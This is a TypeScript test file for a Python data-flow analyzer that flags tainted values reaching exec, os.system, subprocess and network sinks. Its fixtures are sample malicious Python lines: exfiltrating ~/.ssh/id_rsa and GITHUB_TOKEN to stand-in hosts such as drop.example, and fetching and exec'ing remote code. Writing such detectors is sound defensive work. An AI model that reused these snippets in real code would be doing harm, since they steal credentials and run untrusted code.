import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import { analyzePythonSource, initPythonParser } from './analyze.ts';

before(async () => {
  await initPythonParser();
});

/** The data-flow facts of a source, as 'line: detail'. */
function flows(source: string): string[] {
  return analyzePythonSource('pkg/mod.py', Buffer.from(source))
    .constructs.filter((fact) => fact.kind === 'data-flow')
    .map((fact) => `${fact.line}: ${fact.detail}`);
}

describe('python light data flow', () => {
  it('follows a download, a decoder and a secret file through a name to their sinks', () => {
    const source = [
      'import os, requests, subprocess',
      'from base64 import b64decode',
      'from urllib.request import urlopen',
      'def a(u):',
      '    p = requests.get(u).text',
      '    exec(p)',
      'def b(s):',
      '    c = b64decode(s)',
      '    os.system(c)',
      'code = urlopen("http://x.example/a").read()',
      'exec(code)',
      "t = open(os.path.expanduser('~/.ssh/id_rsa')).read()",
      'requests.post("https://drop.example/x", data=t)',
      'k = os.environ["GITHUB_TOKEN"]',
      'subprocess.run(["curl", "-d", k, "https://drop.example"])',
    ].join('\n');
    assert.deepEqual(flows(source), [
      '6: remote -> code:builtins.exec',
      '9: decoded -> process:os.system',
      '11: remote -> code:builtins.exec',
      '13: credential-file+credential-path -> network:requests.post @drop.example',
      '15: env-secret -> process:subprocess.run',
    ]);
  });

  it('stays quiet on values that never reach a sink, and forgets a name assigned again', () => {
    const source = [
      'import os, json, requests',
      'from base64 import b64decode',
      'def show(u):',
      '    d = requests.get(u).json()',
      '    print(json.dumps(d))',
      '    cfg = b64decode(u)',
      "    open('x.ini', 'wb').write(cfg)",
      "    n = open(os.path.expanduser('~/.netrc')).read()",
      '    return n.split()',
      'p = requests.get("https://x.example").text',
      "p = 'print(1)'",
      'exec(p)',
    ].join('\n');
    assert.deepEqual(flows(source), []);
  });

  it('keeps names apart per function: a name in one function is not the same name in another', () => {
    const source = [
      'import os, requests',
      'def a(u):',
      '    p = requests.get(u).text',
      '    return p',
      'def b(p):',
      '    exec(p)',
    ].join('\n');
    assert.deepEqual(flows(source), []);
  });

  it('follows tuple targets, self attributes, function returns and parameters of local functions', () => {
    const source = [
      'import os, socket, requests',
      'from base64 import b64decode',
      'a, b = requests.get("https://x.example/p").text, 1',
      'exec(a)',
      'exec(b)',
      'class Loader:',
      '    def __init__(self, u):',
      '        self.payload = requests.get(u).text',
      '        self.name = "x"',
      '    def run(self):',
      '        exec(self.payload)',
      '        exec(self.name)',
      'def fetch():',
      '    return requests.get("https://y.example/s").text',
      'exec(fetch())',
      'def run(code):',
      '    exec(code)',
      'def send(data):',
      '    requests.post("https://k2.workers.dev/in", data=data)',
      'run(b64decode("cHJpbnQoMSk="))',
      'run("print(2)")',
      'send(socket.gethostname())',
      'send(data="hello")',
    ].join('\n');
    assert.deepEqual(flows(source), [
      '4: remote -> code:builtins.exec',
      '11: remote -> code:builtins.exec',
      '15: remote -> code:builtins.exec',
      '20: decoded -> code:builtins.exec via run',
      '22: host-name -> network:requests.post @k2.workers.dev via send',
    ]);
  });

  it('keeps attributes per class and leaves method return chains alone', () => {
    const source = [
      'import requests',
      'class A:',
      '    def __init__(self, u):',
      '        self.payload = requests.get(u).text',
      'class B:',
      '    def run(self):',
      '        exec(self.payload)',
      'class Client:',
      '    def post(self, url):',
      '        return requests.post(url).json()',
      '    def source(self, url):',
      '        code = self.post(url).get("code")',
      '        return code',
      '    def load(self, url):',
      '        return compile(self.source(url), "<doc>", "exec")',
    ].join('\n');
    assert.deepEqual(flows(source), []);
  });

  it('is bounded: a file of many tracked names and sinks keeps a capped number of facts', () => {
    const lines = ['import requests'];
    for (let i = 0; i < 400; i++) lines.push(`p${i} = requests.get(u).text`, `exec(p${i})`);
    const found = flows(lines.join('\n'));
    assert.equal(found.length, 200);
  });
});
